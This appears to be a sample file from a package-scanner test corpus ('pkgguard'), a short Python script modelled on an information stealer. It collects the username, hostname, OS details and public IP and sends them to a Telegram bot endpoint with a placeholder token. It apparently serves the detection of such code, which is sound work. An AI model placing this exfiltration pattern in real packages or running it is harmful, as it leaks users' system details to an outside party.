# pkgguard corpus 171 (system-information), modelled on [stealer-profile]; inert, never run.
import getpass
import platform
import socket
import requests

info = {
    "user": getpass.getuser(),
    "host": socket.gethostname(),
    "os": platform.uname()._asdict(),
    "ip": requests.get("https://api.ipify.org").text,
}
requests.get("https://api.telegram.org/bot000000000:placeholder-placeholder-placeholder/sendMessage",
             params={"chat_id": "0", "text": str(info)})
